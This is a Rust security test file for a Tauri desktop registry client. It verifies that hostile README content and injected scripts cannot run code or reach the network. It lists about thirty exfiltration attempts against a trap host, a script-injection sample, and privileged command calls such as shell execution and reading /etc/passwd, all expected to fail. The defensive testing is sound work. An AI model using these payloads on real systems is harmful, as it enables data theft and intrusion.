//! A hostile page in the real window: text from a registry runs nothing, asks nobody and leads nowhere; and a page that had been
//! taken over would still get no further than a person could.

use anyhow::{Context, Result};
use roadstead_tests::desktop::{By, Computer, Window};
use roadstead_tests::process::{Keychain, SandboxProcess};
use roadstead_tests::registry::{Failure, Recorder};
use serde_json::{Value, json};

/// One payload a line. `TRAP` is an address that must never be asked, `RAN` a script that must never run.
const CORPUS: &str = include_str!("corpus/readme.txt");

const RAN: &str = "window.ran=(window.ran||0)+1";

async fn with_readme(sandbox: &SandboxProcess, readme: &str) -> Result<()> {
    let path = "/v2/namespaces/acme/repositories/web";
    let body = json!({
        "user": "acme", "name": "web", "namespace": "acme", "repository_type": "image", "status": 1,
        "status_description": "active", "description": readme, "is_private": false, "is_automated": false,
        "star_count": 3, "pull_count": 42, "last_updated": "2026-11-01T00:00:00Z", "date_registered": "2026-01-01T00:00:00Z",
        "collaborator_count": 0, "affiliation": "owner", "hub_user": "acme", "has_starred": false,
        "full_description": readme, "permissions": { "read": true, "write": true, "admin": true },
        "media_types": [], "content_types": ["image"], "categories": [], "immutable_tags_settings": { "enabled": false, "rules": [] },
        "storage_size": 1,
    });
    let headers = vec![("content-type".to_owned(), "application/json".to_owned())];
    let (body, method) = (body.to_string(), Some("GET".to_owned()));
    let told = Failure { exact: true, method, headers, body, ..Failure::new(path, 200, 1_000) };
    sandbox.fail("hub", &told).await
}

/// Opens the repository, and reads it again where it was read before.
async fn open(window: &Window, end: &str) -> Result<()> {
    window.click(&By::link("acme").within(By::role("navigation", "Registries"))).await?;
    window.click(&By::link("acme/web")).await?;
    window.reads("the end of readme").await?;
    window.keys("\u{e035}").await?;
    window.reads(end).await
}

/// What a page must not have done by now.
async fn assert_nothing_happened(window: &Window, trap: &Recorder, what: &str) -> Result<()> {
    let state = "return { ran: window.ran ?? 0, at: location.origin, top: window.top === window, \
         frames: window.frames.length, \
         forbidden: [...document.querySelectorAll('main script, main iframe, main object, main embed, main form, main style, \
            main link, main base, main meta, main svg use, main video, main audio, main img')].map((e) => e.outerHTML), \
         handlers: [...document.querySelectorAll('main *')].flatMap((e) => [...e.attributes]) \
            .filter((a) => /^on/i.test(a.name) || (/^(href|xlink:href|src|srcset|srcdoc|data|action|formaction|poster|ping|style)$/.test(a.name) \
               && /script:|data:text|url[(]/i.test(a.value))).map((a) => `${a.name}=${a.value}`) }";
    let told = window.run(state, vec![]).await?;
    assert_eq!(told["ran"], json!(0), "{what}: a script ran");
    assert_eq!(told["at"], json!("tauri://localhost"), "{what}: the page was left");
    assert_eq!(told["frames"], json!(0), "{what}: there is a frame");
    assert_eq!(told["forbidden"], json!([]), "{what}");
    assert_eq!(told["handlers"], json!([]), "{what}");
    let asked: Vec<_> = trap.requests().into_iter().map(|request| request.path).collect();
    assert!(asked.is_empty(), "{what}: {asked:?} left the machine");
    Ok(())
}

#[tokio::test]
async fn no_readme_runs_a_script_asks_anybody_or_leads_away() -> Result<()> {
    let trap = Recorder::start()?;
    let payloads: Vec<_> = CORPUS
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with("#!"))
        .map(|line| {
            line.replace("TRAP", &trap.url()).replace("HOST", &trap.host()).replace("RAN", RAN)
        })
        .collect();
    assert!(payloads.len() > 70, "{} payloads", payloads.len());
    let sandbox = SandboxProcess::start().await?;
    let computer = Computer::beside(&sandbox, Keychain::Missing).await?;
    let window = computer.open().await?;
    window.type_sign_in(SandboxProcess::USER, SandboxProcess::PASSWORD).await?;
    window.click(&By::button("Stay signed in for now")).await?;
    window.row("Repositories", &["acme/web"]).await?;

    // A few at a time, so that what swallows the rest hides no others.
    for (number, some) in payloads.chunks(12).enumerate() {
        let end = format!("the end of readme {number}.");
        let readme = format!("# A readme\n\n{}\n\n{end}\n", some.join("\n\n"));
        with_readme(&sandbox, &readme).await?;
        open(&window, &end).await?;
        // Everything that could wait for a person: hover, focus, click.
        let touch = "for (const e of document.querySelectorAll('main section *, main article *, main div *')) { \
               if (e.closest('nav, header, [role=tablist], button')) continue; \
               for (const kind of ['mouseover', 'focus', 'pointerenter', 'animationstart', 'toggle', 'error', 'load']) \
                 e.dispatchEvent(new Event(kind, { bubbles: true })); }";
        window.run(touch, vec![]).await?;
        window.picture(&format!("readme-{number}")).await?;
        assert_nothing_happened(&window, &trap, &format!("{some:#?}")).await?;
        sandbox.calm("hub").await?;
    }
    let opened = computer.opened_links();
    assert!(opened.is_empty(), "nothing was opened outside: {opened:?}");
    computer.close(window).await
}

#[tokio::test]
async fn names_with_html_and_marks_that_turn_text_around_are_left_out_and_that_is_said()
-> Result<()> {
    let sandbox = SandboxProcess::start().await?;
    let computer = Computer::beside(&sandbox, Keychain::Missing).await?;
    let window = computer.open().await?;
    window.type_sign_in(SandboxProcess::USER, SandboxProcess::PASSWORD).await?;
    window.click(&By::button("Stay signed in for now")).await?;
    window.row("Repositories", &["acme/web"]).await?;
    // Every text of every answer ends in HTML, a right-to-left override and a line break.
    sandbox.misbehave("hub", "strange-texts").await?;
    window.click(&By::link("acme/web")).await?;
    window.click(&By::role("tab", "Tags")).await?;
    // Names that no tag can have are left out, and that is said: there are tags.
    window.sees(&By::heading("None of the tags can be shown")).await?;
    window.picture("strange-tags").await?;
    let shown = "return [document.querySelectorAll('main img').length, window.ran ?? 0]";
    let tags = window.run(shown, vec![]).await?;
    assert_eq!(tags, json!([0, 0]), "no HTML comes onto the page of tags");
    // Names of repositories that nothing can have are left out, and the list says so.
    window.click(&By::link("acme").within(By::role("navigation", "Registries"))).await?;
    window.keys("\u{e035}").await?;
    window.reads("names that no repository can have").await?;
    window.picture("strange-repositories").await?;
    let list = window.run(shown, vec![]).await?;
    assert_eq!(list, json!([0, 0]), "nor onto the list");
    computer.close(window).await
}

#[tokio::test]
async fn a_page_that_was_taken_over_reaches_nobody_and_may_ask_for_nothing_new() -> Result<()> {
    let trap = Recorder::start()?;
    let sandbox = SandboxProcess::start().await?;
    let computer = Computer::beside(&sandbox, Keychain::Missing).await?;
    let window = computer.open().await?;
    window.sees(&By::heading("Welcome to Roadstead")).await?;

    // What a script could do that got in all the same. None may reach the trap, each by the policy or by the shell.
    for attempt in [
        "fetch(TRAP + '/fetch').catch(() => {})",
        "fetch(TRAP + '/nocors', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})",
        "const x = new XMLHttpRequest(); x.open('GET', TRAP + '/xhr'); x.onerror = () => {}; x.send()",
        "navigator.sendBeacon(TRAP + '/beacon', 'x')",
        "new WebSocket(TRAP.replace('http', 'ws') + '/socket')",
        "new EventSource(TRAP + '/events')",
        "document.body.append(Object.assign(new Image(), { src: TRAP + '/picture' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: TRAP + '/script.js' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: TRAP + '/frame' }))",
        "document.body.append(Object.assign(document.createElement('object'), { data: TRAP + '/object' }))",
        "document.body.append(Object.assign(document.createElement('embed'), { src: TRAP + '/embed' }))",
        "document.body.append(Object.assign(document.createElement('video'), { src: TRAP + '/video' }))",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: TRAP + '/style.css' }))",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: TRAP + '/prefetch' }))",
        "document.head.append(Object.assign(document.createElement('base'), { href: TRAP + '/' })); \
            document.body.append(Object.assign(new Image(), { src: 'based' }))",
        "document.body.style.backgroundImage = `url(${TRAP}/background)`",
        "document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url(${TRAP}/import);` }))",
        "const f = document.createElement('form'); f.action = TRAP + '/form'; f.method = 'post'; document.body.append(f); f.submit()",
        "import(TRAP + '/module.js').catch(() => {})",
        "new Worker(TRAP + '/worker.js')",
        "navigator.serviceWorker?.register(TRAP + '/service.js')?.catch(() => {})",
        "window.open(TRAP + '/window')",
        "window.open('https://example.invalid/', '_blank', 'noopener')",
        "location.href = TRAP + '/location'",
        "location.replace(TRAP + '/replace')",
        "document.body.append(Object.assign(document.createElement('a'), { href: TRAP + '/link', target: '_top', id: 'x' })); x.click()",
        "location.href = 'file:///etc/passwd'",
        "location.href = 'data:text/html,<script>window.ran=1</script>'",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))",
        "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.ran=1\">'; document.body.append(d)",
        "try { eval('window.ran = 1') } catch {}",
        "try { new Function('window.ran = 1')() } catch {}",
        "try { setTimeout('window.ran = 1', 0) } catch {}",
    ] {
        let script = format!("const TRAP = arguments[0]; try {{ {attempt} }} catch {{}}");
        window.run(&script, vec![json!(trap.url())]).await?;
        let settled = "setTimeout(arguments[arguments.length - 1], 60)";
        window.run_async(settled, vec![]).await?;
        let state = "return [window.ran ?? 0, location.origin]";
        let told = window.run(state, vec![]).await?;
        assert_eq!(told, json!([0, "tauri://localhost"]), "{attempt}");
        let asked: Vec<_> = trap.requests().into_iter().map(|request| request.path).collect();
        assert!(asked.is_empty(), "{attempt}: {asked:?}");
    }
    assert_eq!(computer.app_processes().len(), 1);

    let handles = window.window_count().await?;
    assert_eq!(handles, 1, "no other window was opened");
    refused_commands(&window).await?;
    assert!(computer.opened_links().is_empty(), "{:?}", computer.opened_links());
    computer.close(window).await
}

/// What Tauri and its plugins could do, and what our own commands refuse.
async fn refused_commands(window: &Window) -> Result<()> {
    let calls = [
        ("plugin:shell|execute", json!({ "program": "id", "args": [] })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        ("plugin:opener|open_url", json!({ "url": "https://example.invalid/" })),
        ("plugin:opener|open_path", json!({ "path": "/etc/passwd" })),
        ("plugin:opener|reveal_item_in_dir", json!({ "paths": ["/etc/passwd"] })),
        ("plugin:dialog|open", json!({ "options": {} })),
        ("plugin:dialog|save", json!({ "options": {} })),
        ("plugin:clipboard-manager|read_text", json!({})),
        ("plugin:window|create", json!({ "options": { "label": "x" } })),
        ("plugin:window|close", json!({ "label": "main" })),
        ("plugin:webview|create_webview_window", json!({ "options": { "label": "x" } })),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:process|exit", json!({})),
        ("open_link", json!({ "url": "file:///etc/passwd" })),
        ("open_link", json!({ "url": "javascript:alert(1)" })),
        ("open_link", json!({ "url": "http://user@example.invalid/" })),
        ("open_link", json!({ "url": "smb://example.invalid/share" })),
        ("sign_out", json!({ "account": "nobody", "forgetLists": true })),
        ("repository", json!({ "account": "nobody", "name": "../../etc", "request": "1" })),
        ("repository", json!({ "account": { "toString": 1 }, "name": 7, "request": null })),
        ("unlock_client_certificate", json!({ "ticket": "0", "password": "x" })),
        ("no_such_command", json!({})),
    ];
    for (command, arguments) in calls {
        let call = "const done = arguments[arguments.length - 1]; \
             window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]) \
               .then((told) => done(['done', told]), (refused) => done(['refused', JSON.stringify(refused)]))";
        let told = window.run_async(call, vec![json!(command), arguments]).await?;
        let how = told.get(0).and_then(Value::as_str).context("it answers")?;
        assert_eq!(how, "refused", "{command}: {told}");
    }
    let global = window.run("return typeof window.__TAURI__", vec![]).await?;
    assert_eq!(global, json!("undefined"), "the whole API is in no page's reach");
    Ok(())
}
